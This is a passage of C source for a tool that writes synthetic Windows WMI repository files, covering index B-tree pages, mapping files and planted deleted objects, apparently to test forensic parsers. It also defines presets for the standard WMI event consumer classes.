                fprintf(stderr, "cimgen: index key too long: %s\n", lk[i]);
                abort();
            }
            if (i < ln && i == ln - 1) i--; // the separator must leave a key for the next page
            if (a == 0 && i == ln) single = true;
            uint32_t lg = single && bt->root_at_zero ? 0 : bt->next_logical++;
            encode_node(lk + a, i - a, lc ? lc + a : NULL, lg, page);
            sink_put(bt->sink, lg, page);
            bt->pages++;
            upc[nnodes++] = lg;
            if (i == ln) break;
            up[nup++] = lk[i]; // separator
            i++;
        }
        if (lk != keys) free(lk);
        free(lc);
        if (single) {
            free(up);
            uint32_t root = upc[0];
            free(upc);
            return root;
        }
        bt->depth++;
        lk = up;
        lc = upc;
        ln = nup;
    }
}

static int key_cmp(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

/* ------------------------------------------------------------------ */
/* mapping files (§2)                                                   */

typedef struct mapimg {
    uint32_t nent;
    uint32_t *phys;      /* NONE32 = not mapped */
    const uint32_t *freeb;
} mapimg;

static uint32_t free_list(const mapimg *mi, uint32_t nphys, uint32_t *out)
{
    uint8_t *used = xcalloc(nphys + 1, 1);
    for (uint32_t i = 0; i < mi->nent; i++)
        if (mi->phys[i] < nphys) used[mi->phys[i]] = 1;
    uint32_t n = 0;
    for (uint32_t p = 0; p < nphys; p++)
        if (!used[p]) {
            if (out) out[n] = p;
            n++;
        }
    free(used);
    return n;
}

/* v2.2 section: {0xABCD, sequence, generation, generation-1, physical
 * pages, entries}, 24-byte entries {physical, checksum, free bytes, used
 * (index root in index entry 0), generation, generation}, free list, 0xDCBA.
 * v2.1: {0xABCD, sequence, physical pages}, entry count, 4-byte entries. */
static void map_section(buf *b, bool xp, uint32_t seq, uint32_t gen, uint32_t nphys, const mapimg *mi,
                        uint32_t root_in_entry0)
{
    b_u32(b, 0xABCD);
    b_u32(b, seq);
    if (!xp) {
        b_u32(b, gen);
        b_u32(b, gen - 1);
    }
    b_u32(b, nphys);
    b_u32(b, mi->nent);
    for (uint32_t i = 0; i < mi->nent; i++) {
        b_u32(b, mi->phys[i]);
        if (xp) continue;
        b_u32(b, 0); // checksum: not a plain CRC-32 on Windows (§2); 0 here
        b_u32(b, mi->freeb && mi->phys[i] != NONE32 ? mi->freeb[i] : 0);
        b_u32(b, i == 0 ? root_in_entry0 : 0);
        b_u32(b, gen);
        b_u32(b, gen);
    }
    uint32_t nf = free_list(mi, nphys, NULL);
    uint32_t *fl = xcalloc(nf + 1, sizeof(*fl));
    free_list(mi, nphys, fl);
    b_u32(b, nf);
    for (uint32_t i = 0; i < nf; i++) b_u32(b, fl[i]);
    free(fl);
    b_u32(b, 0xDCBA);
}

static int write_file(cimgen_model *m, const char *dir, const char *name, const buf *b)
{
    char path[1200];
    snprintf(path, sizeof(path), "%s/%s", dir, name);
    FILE *f = fopen(path, "wb");
    if (!f || fwrite(b->p, 1, b->n, f) != b->n) {
        seterr(m, "%s: %s", path, strerror(errno));
        if (f) fclose(f);
        return -1;
    }
    if (fclose(f) != 0) {
        seterr(m, "%s: %s", path, strerror(errno));
        return -1;
    }
    return 0;
}

static int mkdirs(const char *dir)
{
    char tmp[1200];
    snprintf(tmp, sizeof(tmp), "%s", dir);
    for (char *p = tmp + 1; *p; p++)
        if (*p == '/') {
            *p = 0;
            if (mkdir(tmp, 0755) != 0 && errno != EEXIST) return -1;
            *p = '/';
        }
    if (mkdir(tmp, 0755) != 0 && errno != EEXIST) return -1;
    return 0;
}

/* ------------------------------------------------------------------ */
/* cimgen_write                                                         */

typedef struct wctx {
    cimgen_model *m;
    bool xp;
    char (*nsh)[65];   /* per namespace */
    char (*ch)[65];    /* per class */
    keyset keys;
    dwriter dw;
    buf rec;
    size_t refobjects;
} wctx;

static void put_class(wctx *x, const cimgen_class *c)
{
    x->rec.n = 0;
    enc_class(&x->rec, c);
    dloc l = dw_put(&x->dw, x->rec.p, x->rec.n);
    const char *ns = x->nsh[c->ns->id];
    char sh[65];
    cimgen_hash_name(c->super ? c->super->name : "", x->xp, sh); // no super: hash of "" (observed)
    key_add(&x->keys, "NS_%s/CD_%s.%u.%u.%u", ns, x->ch[c->id], l.page, l.rid, l.size);
    key_add(&x->keys, "NS_%s/CR_%s/C_%s", ns, sh, x->ch[c->id]);
    x->keys.with_data++;
    // Class references: NS_/CR_<referenced class>/R_<referencing class>.
    for (size_t i = 0; i < c->nown; i++)
        if (c->own[i]->refclass && (c->own[i]->type & CIMGEN_TYPE_MASK) == CIMGEN_REFERENCE) {
            char rh[65];
            cimgen_hash_name(c->own[i]->refclass, x->xp, rh);
            key_add(&x->keys, "NS_%s/CR_%s/R_%s", ns, rh, x->ch[c->id]);
        }
}

static void put_instance(wctx *x, const cimgen_inst *in)
{
    x->rec.n = 0;
    enc_inst(&x->rec, in, x->xp);
    dloc l = dw_put(&x->dw, x->rec.p, x->rec.n);
    const char *ns = x->nsh[in->ns->id];
    char ih[65];
    cimgen_hash_name(cimgen_instance_keytext(x->m, in), x->xp, ih);
    const char *kc = x->ch[in->cls->keyclass->id];
    key_add(&x->keys, "NS_%s/CI_%s/IL_%s.%u.%u.%u", ns, x->ch[in->cls->id], ih, l.page, l.rid, l.size);
    key_add(&x->keys, "NS_%s/KI_%s/I_%s.%u.%u.%u", ns, kc, ih, l.page, l.rid, l.size);
    x->keys.with_data += 2;
    // References to other instances: NS_<target ns>/KI_<target key
    // class>/IR_<target>/R_<hash of the referrer's path>, pointing at a
    // reference record (observed on the SCM binding of fox-it_dissect.cim).
    char self[300];
    snprintf(self, sizeof(self), "NS_%s\\KI_%s\\I_%s", ns, kc, ih);
    char selfh[65];
    cimgen_hash_name(self, x->xp, selfh);
    for (size_t i = 0; i < in->cls->nall; i++) {
        const cimgen_prop *p = in->cls->all[i];
        if (p->type != CIMGEN_REFERENCE) continue;
        const cimgen_val *v = inst_value(in, p);
        if (!v || v->kind != CIMGEN_K_STR) continue;
        objpath op;
        if (!parse_path(v->s, in->ns->path, &op)) continue;
        cimgen_ns *tns = cimgen_find_namespace(x->m, op.ns);
        const cimgen_class *tc = tns ? resolve_class(x->m, tns, op.cls) : NULL;
        char tnh[65], tkh[65], tih[65];
        cimgen_hash_name(op.ns, x->xp, tnh);
        cimgen_hash_name(tc ? tc->keyclass->name : op.cls, x->xp, tkh);
        buf kt = {0};
        path_keytext(&op, &kt);
        cimgen_hash_name((const char *)kt.p, x->xp, tih);
        b_free(&kt);
        x->rec.n = 0;
        enc_refobj(&x->rec, in, p->name, self);
        dloc rl = dw_put(&x->dw, x->rec.p, x->rec.n);
        key_add(&x->keys, "NS_%s/KI_%s/IR_%s/R_%s.%u.%u.%u", tnh, tkh, tih, selfh, rl.page, rl.rid, rl.size);
        x->keys.with_data++;
        x->refobjects++;
    }
}

static const char *const REPO_FILES[] = {"INDEX.BTR", "OBJECTS.DATA", "MAPPING1.MAP", "MAPPING2.MAP",
                                         "MAPPING3.MAP", "MAPPING.VER", "OBJECTS.MAP", "INDEX.MAP"};

int cimgen_write(cimgen_model *m, const char *dir_in, const cimgen_opts *opts_in, cimgen_report *rep_out)
{
    cimgen_opts opts = {0};
    if (opts_in) opts = *opts_in;
    if (!cimgen_finalize(m)) return -1;
    bool xp = opts.xp;
    cimgen_report rep_local;
    cimgen_report *rep = rep_out ? rep_out : &rep_local;
    memset(rep, 0, sizeof(*rep));
    char dir[1024];
    snprintf(dir, sizeof(dir), "%s%s", dir_in, xp && opts.xp_fs_subdir ? "/FS" : "");
    if (mkdirs(dir) != 0) {
        seterr(m, "%s: %s", dir, strerror(errno));
        return -1;
    }
    for (size_t i = 0; i < sizeof(REPO_FILES) / sizeof(REPO_FILES[0]); i++) {
        char p[1200];
        snprintf(p, sizeof(p), "%s/%s", dir, REPO_FILES[i]);
        unlink(p);
    }
    snprintf(rep->dir, sizeof(rep->dir), "%s", dir);
    uint64_t rng = opts.seed * 0x9E3779B97F4A7C15ull + 0x1234567ull;
    bool shuffle = !opts.shuffle_off;
    int rc = -1;

    wctx x = {0};
    x.m = m;
    x.xp = xp;
    x.nsh = xcalloc(m->nns + 1, sizeof(*x.nsh));
    x.ch = xcalloc(m->nclasses + 1, sizeof(*x.ch));
    for (size_t i = 0; i < m->nns; i++) cimgen_hash_name(m->ns[i]->path, xp, x.nsh[i]);
    for (size_t i = 0; i < m->nclasses; i++) cimgen_hash_name(m->classes[i]->name, xp, x.ch[i]);

    char path[1200];
    snprintf(path, sizeof(path), "%s/OBJECTS.DATA", dir);
    int dfd = open(path, O_CREAT | O_TRUNC | O_RDWR, 0644);
    snprintf(path, sizeof(path), "%s/INDEX.BTR", dir);
    int ifd = open(path, O_CREAT | O_TRUNC | O_RDWR, 0644);
    psink isink;
    memset(&isink, 0, sizeof(isink));
    pending *oldp = NULL, *unp = NULL;
    typedef struct bigobj {
        uint8_t *pages;
        uint32_t npages;
        size_t placed;
    } bigobj;
    bigobj *bigs = NULL;
    size_t nbig = 0, bigcap = 0;
    size_t nold = 0, nun = 0;
    uint32_t old_phys[16], un_phys[16];
    size_t nold_pages = 0, nun_pages = 0;
    uint32_t *dphys = NULL, *iphys = NULL;
    if (dfd < 0 || ifd < 0) {
        seterr(m, "%s: %s", dir, strerror(errno));
        goto done;
    }
    dwriter *w = &x.dw;
    w->rng = &rng;
    w->rep = rep;
    sink_init(&w->sink, dfd, &rng, shuffle);

    // Deleted objects first: their pages go in among the first blocks.
    oldp = xcalloc(m->nclasses + m->ninst + 1, sizeof(*oldp));
    unp = xcalloc(m->nclasses + m->ninst + 1, sizeof(*unp));
    for (size_t pass = 0; pass < 2; pass++) {
        size_t n = pass ? m->ninst : m->nclasses;
        for (size_t i = 0; i < n; i++) {
            cimgen_del how = pass ? m->inst[i]->deleted : m->classes[i]->deleted;
            bool stale = false;
            if (pass && how == CIMGEN_LIVE && m->inst[i]->stale_copy != CIMGEN_LIVE) {
                how = m->inst[i]->stale_copy;
                stale = true;
            }
            if (how == CIMGEN_LIVE) continue;
            buf r = {0};
            if (pass)
                enc_inst(&r, m->inst[i], xp);
            else
                enc_class(&r, m->classes[i]);
            if (r.n + 48 > PAGE && how != CIMGEN_DEL_UNALLOC) {
                seterr(m, "deleted object of %zu bytes: only unallocated objects may span pages", r.n);
                b_free(&r);
                goto done;
            }
            if (r.n + 48 > PAGE) {
                // Alone from its first page on, with a one-entry TOC, over
                // consecutive physical pages no map references (written last).
                size_t first = PAGE - 32;
                uint32_t np = 1 + (uint32_t)((r.n - first + PAGE - 1) / PAGE);
                uint8_t *pages = xcalloc(np, PAGE);
                uint32_t rid = (uint32_t)(rnd(&rng) >> 32) | 1u;
                le(pages, rid, 4);
                le(pages + 4, 32, 4);
                le(pages + 8, r.n, 4);
                memcpy(pages + 32, r.p, r.n);
                grow(&bigs, &bigcap, nbig + 1, sizeof(*bigs));
                bigs[nbig] = (bigobj){pages, np, rep->nplaced};
                if (rep->nplaced < 64)
                    rep->placed[rep->nplaced++] = (cimgen_placed){
                        pass ? (const void *)m->inst[i] : (const void *)m->classes[i], !pass, how, UINT32_MAX, 0,
                        rid, (uint32_t)r.n, 32, np, stale};
                nbig++;
                b_free(&r);
                continue;
            }
            pending pd = {r.p, r.n, pass ? (const void *)m->inst[i] : (const void *)m->classes[i], !pass, stale};
            if (how == CIMGEN_DEL_OLDMAP)
                oldp[nold++] = pd;
            else if (how == CIMGEN_DEL_UNALLOC)
                unp[nun++] = pd;
            else {
                grow(&w->slack, &w->slackcap, w->nslack + 1, sizeof(*w->slack));
                w->slack[w->nslack++] = pd;
            }
        }
    }
    for (size_t i = 0; i < nold && nold_pages < 16;) {
        size_t before = rep->nplaced;
        uint8_t *pg = dead_page(w, oldp + i, nold - i, CIMGEN_DEL_OLDMAP, 0); // logical set later
        size_t took = rep->nplaced - before;
        for (size_t k = before; k < rep->nplaced; k++) rep->placed[k].physical_page = (uint32_t)nold_pages;
        sink_extra(&w->sink, pg, &old_phys[nold_pages]);
        nold_pages++;
        i += took ? took : 1;
    }
    w->nold = (uint32_t)nold_pages;
    for (size_t i = 0; i < nun && nun_pages < 16;) {
        size_t before = rep->nplaced;
        uint8_t *pg = dead_page(w, unp + i, nun - i, CIMGEN_DEL_UNALLOC, UINT32_MAX);
        size_t took = rep->nplaced - before;
        for (size_t k = before; k < rep->nplaced; k++) rep->placed[k].physical_page = (uint32_t)nun_pages;
        sink_extra(&w->sink, pg, &un_phys[nun_pages]);
        nun_pages++;
        i += took ? took : 1;
    }

    // Live objects, namespace by namespace: classes, then instances (each
    // followed by the reference records it causes).
    for (size_t i = 0; i < m->nns; i++) {
        cimgen_ns *ns = m->ns[i];
        for (size_t j = 0; j < ns->nclasses; j++)
            if (!ns->classes[j]->deleted) put_class(&x, ns->classes[j]);
        for (size_t j = 0; j < ns->ninst; j++)
            if (!ns->inst[j]->deleted) put_instance(&x, ns->inst[j]);
    }
    if (w->slacknext < w->nslack) {
        // Slack needs a live object to follow in the same page; a model
        // whose last live record leaves no room cannot express it.
        seterr(m, "no room left for a slack object");
        goto done;
    }
    dw_close_page(w);
    alloc_logical(w, 0); // the OLDMAP hole, when only page 0 was used
    sink_close(&w->sink, w->nold + 2);
    for (size_t b = 0; b < nbig; b++) { // spanning unallocated objects: consecutive pages at the end
        sink_write(&w->sink, bigs[b].pages, (size_t)bigs[b].npages * PAGE, w->sink.nphys);
        if (bigs[b].placed < rep->nplaced) rep->placed[bigs[b].placed].physical_page = w->sink.nphys;
        w->sink.nphys += bigs[b].npages;
    }
    if (w->sink.err) {
        seterr(m, "OBJECTS.DATA: %s", strerror(w->sink.err));
        goto done;
    }
    uint32_t dent = w->sink.nlog;
    if (dent < w->old_base + w->nold) dent = w->old_base + w->nold;
    if (shuffle) dent += 2; // two unmapped entries at the end, as real maps have
    uint32_t dpages = w->sink.nphys;
    dphys = xcalloc(dent + 1, sizeof(*dphys));
    for (uint32_t i = 0; i < dent; i++) dphys[i] = i < w->sink.nlog ? w->sink.l2p[i] : NONE32;
    set_free(w, dent, 0); // freeb covers every entry

    // Absolute offsets of the deleted objects.
    for (size_t k = 0; k < rep->nplaced; k++) {
        cimgen_placed *pl = &rep->placed[k];
        if (pl->pages > 1) {
            // placed already
        } else if (pl->how == CIMGEN_DEL_SLACK) {
            pl->physical_page = dphys[pl->logical_page];
        } else {
            size_t pg = pl->physical_page;
            pl->physical_page = pl->how == CIMGEN_DEL_OLDMAP ? old_phys[pg] : un_phys[pg];
            if (pl->how == CIMGEN_DEL_OLDMAP) pl->logical_page = w->old_base + (uint32_t)pg;
        }
        pl->offset += (uint64_t)pl->physical_page * PAGE;
    }

    // Index.
    qsort(x.keys.k, x.keys.n, sizeof(*x.keys.k), key_cmp);
    size_t nk = 0;
    for (size_t i = 0; i < x.keys.n; i++) {
        if (nk && strcmp(x.keys.k[nk - 1], x.keys.k[i]) == 0) {
            free(x.keys.k[i]);
            continue;
        }
        x.keys.k[nk++] = x.keys.k[i];
    }
    x.keys.n = nk;
    sink_init(&isink, ifd, &rng, shuffle);
    if (shuffle) {
        sink_extra(&isink, NULL, NULL);
        sink_extra(&isink, NULL, NULL);
    }
    // Logical page 0 is a tree page like any other on Vista+ (observed: the
    // last leaf of fox-it_dissect.cim); index_root_page0 keeps it out of
    // the children for readers that take child 0 as "none".
    bool root0 = !xp && opts.index_root_page0;
    btree bt = {&isink, xp || root0 ? 1u : 0u, root0, 0, 0};
    uint32_t root = build_tree(&bt, x.keys.k, x.keys.n);
    if (xp) {
        // Logical page 0 is the admin page naming the root (§2).
        uint8_t adm[PAGE];
        memset(adm, 0, PAGE);
        le(adm, 0xADDD, 4);
        le(adm + 12, root, 4);
        sink_put(&isink, 0, adm);
    }
    sink_close(&isink, 3);
    if (isink.err) {
        seterr(m, "INDEX.BTR: %s", strerror(isink.err));
        goto done;
    }
    uint32_t ient = isink.nlog + (shuffle ? 3 : 0);
    uint32_t ipages = isink.nphys;
    iphys = xcalloc(ient + 1, sizeof(*iphys));
    for (uint32_t i = 0; i < ient; i++) iphys[i] = i < isink.nlog ? isink.l2p[i] : NONE32;

    // Mapping files: the current one and older ones. Older maps still map
    // the OLDMAP pages (§2: copies keep older states).
    unsigned nfiles = xp ? 2 : 3;
    unsigned cur = 1 + (unsigned)(rnd(&rng) % nfiles);
    uint32_t seq = 1000 + (uint32_t)(rnd(&rng) % 90000);
    uint32_t gen = 100 + (uint32_t)(rnd(&rng) % 900);
    uint32_t *ophys = xcalloc(dent + 1, sizeof(*ophys));
    memcpy(ophys, dphys, dent * sizeof(*ophys));
    for (size_t k = 0; k < nold_pages; k++) ophys[w->old_base + k] = old_phys[k];
    mapimg dcur = {dent, dphys, w->freeb}, dold = {dent, ophys, w->freeb}, icur = {ient, iphys, NULL};
    for (unsigned age = 0; age < nfiles; age++) {
        unsigned fileno = (unsigned)((cur - 1 + nfiles - age) % nfiles) + 1;
        buf b = {0};
        map_section(&b, xp, seq - age, gen - age, dpages, age ? &dold : &dcur, 0);
        map_section(&b, xp, seq - age, gen - age, ipages, &icur, xp ? 0 : root);
        if (!xp) b_u32(&b, 1); // trailer (observed 0 or 1)
        char name[32];
        snprintf(name, sizeof(name), "MAPPING%u.MAP", fileno);
        int e = write_file(m, dir, name, &b);
        b_free(&b);
        if (e) {
            free(ophys);
            goto done;
        }
    }
    free(ophys);
    if (xp) {
        buf b = {0};
        b_u32(&b, cur);
        int e = write_file(m, dir, "MAPPING.VER", &b);
        b.n = 0;
        map_section(&b, xp, seq, gen, dpages, &dcur, 0);
        e |= write_file(m, dir, "OBJECTS.MAP", &b);
        b.n = 0;
        map_section(&b, xp, seq, gen, ipages, &icur, 0);
        e |= write_file(m, dir, "INDEX.MAP", &b);
        b_free(&b);
        if (e) goto done;
    }

    snprintf(rep->current_map, sizeof(rep->current_map), "MAPPING%u.MAP", cur);
    rep->sequence = seq;
    rep->generation = xp ? 0 : gen;
    rep->nmaps = nfiles;
    rep->data_pages = dpages;
    rep->index_pages = ipages;
    rep->data_entries = dent;
    rep->index_entries = ient;
    rep->data_free = rep->data_unallocated = free_list(&dcur, dpages, NULL);
    rep->index_free = rep->index_unallocated = free_list(&icur, ipages, NULL);
    for (uint32_t i = 0; i < dent; i++) rep->data_unmapped += dphys[i] == NONE32;
    for (uint32_t i = 0; i < ient; i++) rep->index_unmapped += iphys[i] == NONE32;
    rep->index_root = root;
    rep->index_depth = bt.depth;
    rep->index_tree_pages = bt.pages;
    rep->keys = x.keys.n;
    rep->keys_with_data = 0;
    for (size_t i = 0; i < x.keys.n; i++) {
        const char *last = strrchr(x.keys.k[i], '/');
        const char *d1 = strchr(last, '.');
        rep->keys_with_data += d1 != NULL;
    }
    rep->namespaces = m->nns;
    for (size_t i = 0; i < m->nclasses; i++) rep->classes += !m->classes[i]->deleted;
    for (size_t i = 0; i < m->ninst; i++) rep->instances += !m->inst[i]->deleted;
    rep->refobjects = x.refobjects;
    rep->spanning = w->spanning;
    rep->objects_bytes = w->bytes;
    rc = 0;

done:
    if (dfd >= 0) close(dfd);
    if (ifd >= 0) close(ifd);
    for (size_t i = 0; i < nold; i++) free(oldp[i].rec);
    for (size_t i = 0; i < nun; i++) free(unp[i].rec);
    for (size_t i = 0; i < x.dw.nslack; i++) free(x.dw.slack[i].rec);
    free(oldp);
    free(unp);
    for (size_t i = 0; i < nbig; i++) free(bigs[i].pages);
    free(bigs);
    free(x.dw.slack);
    free(x.dw.freeb);
    sink_free(&x.dw.sink);
    sink_free(&isink);
    for (size_t i = 0; i < x.keys.n; i++) free(x.keys.k[i]);
    free(x.keys.k);
    free(x.nsh);
    free(x.ch);
    b_free(&x.rec);
    free(dphys);
    free(iphys);
    return rc;
}

/* ------------------------------------------------------------------ */
/* presets                                                              */

/* 2019-12-07T09:17:28.572378Z: __EventFilter's definition time on the
 * Win10 sets of the corpus (EXPECTED.md §7). */
const uint64_t cimgen_preset_time = 132201838485723780ull;

uint64_t cimgen_filetime(int year, int mon, int day, int hour, int min, int sec, uint32_t usec)
{
    // Days from 1970-01-01 (civil calendar).
    int y = year - (mon <= 2);
    int era = (y >= 0 ? y : y - 399) / 400;
    int yoe = y - era * 400;
    int doy = (153 * (mon + (mon > 2 ? -3 : 9)) + 2) / 5 + day - 1;
    int doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    int64_t days = (int64_t)era * 146097 + doe - 719468;
    int64_t secs = days * 86400 + hour * 3600 + min * 60 + sec;
    return (uint64_t)(secs + 11644473600ll) * 10000000ull + (uint64_t)usec * 10ull;
}

/* S-1-5-18 (LocalSystem): the class default of CreatorSID (observed). */
static const int64_t SID_SYSTEM[] = {1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0};
/* S-1-5-32-544 (Administrators): the CreatorSID of the SCM objects. */
static const int64_t SID_ADMINS[] = {1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0};

#define NSIZE(a) (sizeof(a) / sizeof((a)[0]))

static cimgen_prop *P(cimgen_model *m, cimgen_class *c, const char *name, uint32_t type)
{
    return cimgen_prop_add(m, c, name, type, 0, NULL);
}

static cimgen_prop *PD(cimgen_model *m, cimgen_class *c, const char *name, uint32_t type, cimgen_val d)
{
    return cimgen_prop_add(m, c, name, type, 0, &d);
}

static void Q(cimgen_model *m, cimgen_prop *p, const char *name)
{
    cimgen_prop_qual(m, p, name, cimgen_bool(true), 0);
}

static cimgen_prop *creator_sid(cimgen_model *m, cimgen_class *c)
{
    cimgen_val d = cimgen_ints(SID_SYSTEM, NSIZE(SID_SYSTEM));
    cimgen_prop *p = PD(m, c, "CreatorSID", CIMGEN_UINT8 | CIMGEN_ARRAY, d);
    cimgen_prop_qual(m, p, "read", cimgen_bool(true), 0x13);
    return p;
}

/* Standard consumer classes, as defined on Windows 10 (read from the
 * corpus: property order, types and defaults). */
static void consumer_classes(cimgen_model *m, const char *ns, uint64_t t)
{
    cimgen_class *c = cimgen_class_add(m, ns, "CommandLineEventConsumer", "__EventConsumer", t + 1);
    cimgen_prop_add(m, c, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);
    Q(m, P(m, c, "ExecutablePath", CIMGEN_STRING), "write");
    cimgen_prop *tpl = P(m, c, "CommandLineTemplate", CIMGEN_STRING);
    Q(m, tpl, "Template");
    Q(m, tpl, "write");
    Q(m, PD(m, c, "UseDefaultErrorMode", CIMGEN_BOOLEAN, cimgen_bool(false)), "write");
    Q(m, PD(m, c, "CreateNewConsole", CIMGEN_BOOLEAN, cimgen_bool(false)), "DEPRECATED");
    Q(m, PD(m, c, "CreateNewProcessGroup", CIMGEN_BOOLEAN, cimgen_bool(false)), "write");
    Q(m, PD(m, c, "CreateSeparateWowVdm", CIMGEN_BOOLEAN, cimgen_bool(false)), "write");
    Q(m, PD(m, c, "CreateSharedWowVdm", CIMGEN_BOOLEAN, cimgen_bool(false)), "write");
    Q(m, PD(m, c, "Priority", CIMGEN_SINT32, cimgen_int(32)), "write");
    Q(m, P(m, c, "WorkingDirectory", CIMGEN_STRING), "write");
    Q(m, P(m, c, "DesktopName", CIMGEN_STRING), "DEPRECATED");
    cimgen_prop *wt = P(m, c, "WindowTitle", CIMGEN_STRING);
    Q(m, wt, "Template");
    Q(m, wt, "write");
    static const char *const u32s[] = {"XCoordinate", "YCoordinate", "XSize", "YSize", "XNumCharacters",
                                       "YNumCharacters", "FillAttribute", "ShowWindowCommand"};
    for (size_t i = 0; i < NSIZE(u32s); i++) Q(m, P(m, c, u32s[i], CIMGEN_UINT32), "write");
    Q(m, PD(m, c, "ForceOnFeedback", CIMGEN_BOOLEAN, cimgen_bool(false)), "write");
    Q(m, PD(m, c, "ForceOffFeedback", CIMGEN_BOOLEAN, cimgen_bool(false)), "write");
    Q(m, PD(m, c, "RunInteractively", CIMGEN_BOOLEAN, cimgen_bool(false)), "write");
    Q(m, PD(m, c, "KillTimeout", CIMGEN_UINT32, cimgen_uint(0)), "write");

    c = cimgen_class_add(m, ns, "ActiveScriptEventConsumer", "__EventConsumer", t + 21);
    cimgen_class_qual(m, c, "locale", cimgen_int(1033), 0);
    cimgen_prop_add(m, c, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);
    cimgen_prop *se = P(m, c, "ScriptingEngine", CIMGEN_STRING);
    Q(m, se, "not_null");
    Q(m, se, "write");
    Q(m, P(m, c, "ScriptText", CIMGEN_STRING), "write");
    Q(m, P(m, c, "ScriptFilename", CIMGEN_STRING), "write");
    Q(m, PD(m, c, "KillTimeout", CIMGEN_UINT32, cimgen_uint(0)), "write");

    c = cimgen_class_add(m, ns, "NTEventLogEventConsumer", "__EventConsumer", t + 2);
    cimgen_prop_add(m, c, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);
    Q(m, P(m, c, "UNCServerName", CIMGEN_STRING), "write");
    cimgen_prop *sn = P(m, c, "SourceName", CIMGEN_STRING);
    Q(m, sn, "NOT_NULL");
    Q(m, sn, "write");
    Q(m, PD(m, c, "EventID", CIMGEN_UINT32, cimgen_uint(0)), "write");
    cimgen_prop *et = PD(m, c, "EventType", CIMGEN_UINT32, cimgen_uint(1));
    Q(m, et, "write");
    static const char *const vm[] = {"0", "1", "2", "4", "8", "16"};
    static const char *const vs[] = {"Success", "Error", "Warning", "Information", "Audit Success", "Audit Failure"};
    cimgen_prop_qual(m, et, "ValueMap", cimgen_strs(vm, NSIZE(vm)), 0);
    cimgen_prop_qual(m, et, "Values", cimgen_strs(vs, NSIZE(vs)), 0);
    Q(m, P(m, c, "Category", CIMGEN_UINT16), "write");
    Q(m, PD(m, c, "NumberOfInsertionStrings", CIMGEN_UINT32, cimgen_uint(0)), "write");
    static const char *const empty[] = {""};
    cimgen_prop *ist = PD(m, c, "InsertionStringTemplates", CIMGEN_STRING | CIMGEN_ARRAY, cimgen_strs(empty, 1));
    Q(m, ist, "Template");
    Q(m, ist, "write");
    Q(m, P(m, c, "NameOfRawDataProperty", CIMGEN_STRING), "write");
    Q(m, P(m, c, "NameOfUserSIDProperty", CIMGEN_STRING), "write");

    c = cimgen_class_add(m, ns, "LogFileEventConsumer", "__EventConsumer", t);
    cimgen_prop_add(m, c, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);
    Q(m, P(m, c, "Filename", CIMGEN_STRING), "write");
    cimgen_prop *tx = P(m, c, "Text", CIMGEN_STRING);
    Q(m, tx, "Template");
    Q(m, tx, "write");
    Q(m, PD(m, c, "MaximumFileSize", CIMGEN_UINT64, cimgen_uint(65535)), "write");
    Q(m, P(m, c, "IsUnicode", CIMGEN_BOOLEAN), "write");

    c = cimgen_class_add(m, ns, "SMTPEventConsumer", "__EventConsumer", t + 16);
    cimgen_class_qual(m, c, "locale", cimgen_int(1033), 0);
    cimgen_prop_add(m, c, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);
    Q(m, P(m, c, "SMTPServer", CIMGEN_STRING), "write");
    static const char *const lines[] = {"Subject", "FromLine", "ReplyToLine", "Message", "ToLine", "CcLine",
                                        "BccLine"};
    for (size_t i = 0; i < NSIZE(lines); i++) {
        cimgen_prop *lp = P(m, c, lines[i], CIMGEN_STRING);
        Q(m, lp, "Template");
        Q(m, lp, "write");
    }
    Q(m, P(m, c, "HeaderFields", CIMGEN_STRING | CIMGEN_ARRAY), "write");
}

/* The providers of the standard consumers (root\subscription has one
 * __Win32Provider per consumer class; they sit under KI___Provider). */
static void consumer_providers(cimgen_model *m, const char *ns, uint64_t t)
{
    static const struct { const char *name, *clsid; } pv[] = {
        {"CommandLineEventConsumer", "{266c72e5-62e8-11d1-ad89-00c04fd8fdff}"},
        {"ActiveScriptEventConsumer", "{266c72e7-62e8-11d1-ad89-00c04fd8fdff}"},
        {"NTEventLogEventConsumer", "{266c72e6-62e8-11d1-ad89-00c04fd8fdff}"},
        {"LogFileEventConsumer", "{266c72d4-62e8-11d1-ad89-00c04fd8fdff}"},
        {"SMTPEventConsumer", "{C7A3A54B-0250-11D3-9CD1-00105A1F4801}"}};
    for (size_t i = 0; i < NSIZE(pv); i++) {
        cimgen_inst *in = cimgen_instance_add(m, ns, "__Win32Provider", t + i);
        cimgen_set(m, in, "Name", cimgen_str(pv[i].name));
        cimgen_set(m, in, "CLSID", cimgen_str(pv[i].clsid));
        cimgen_set(m, in, "HostingModel", cimgen_str("LocalSystemHost"));
        cimgen_set(m, in, "UnloadTimeout", cimgen_str("00000000000030.000000:000"));
    }
}

void cimgen_windows_defaults(cimgen_model *m)
{
    const uint64_t t = cimgen_preset_time - 3800; // system classes, a moment before __EventFilter
    const char *sc = "__SystemClass";
    cimgen_class *c = cimgen_class_add(m, sc, "__SystemClass", NULL, t);
    cimgen_class_qual(m, c, "abstract", cimgen_bool(true), 0);
    c = cimgen_class_add(m, sc, "__NAMESPACE", "__SystemClass", t + 1);
    cimgen_prop_add(m, c, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);

    c = cimgen_class_add(m, sc, "__Provider", "__SystemClass", t + 5);
    cimgen_class_qual(m, c, "abstract", cimgen_bool(true), 0);
    cimgen_prop_add(m, c, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);
    c = cimgen_class_add(m, sc, "__Win32Provider", "__Provider", t + 6);
    P(m, c, "CLSID", CIMGEN_STRING);
    P(m, c, "ClientLoadableCLSID", CIMGEN_STRING);
    P(m, c, "DefaultMachineName", CIMGEN_STRING);
    cimgen_prop_qual(m, P(m, c, "UnloadTimeout", CIMGEN_DATETIME), "SUBTYPE", cimgen_str("interval"), 3);
    P(m, c, "InitializeAsAdminFirst", CIMGEN_BOOLEAN);
    P(m, c, "Version", CIMGEN_UINT32);
    static const char *const none[] = {"None"};
    cimgen_prop_qual(m, PD(m, c, "ImpersonationLevel", CIMGEN_SINT32, cimgen_int(0)), "Values",
                     cimgen_strs(none, 1), 2);
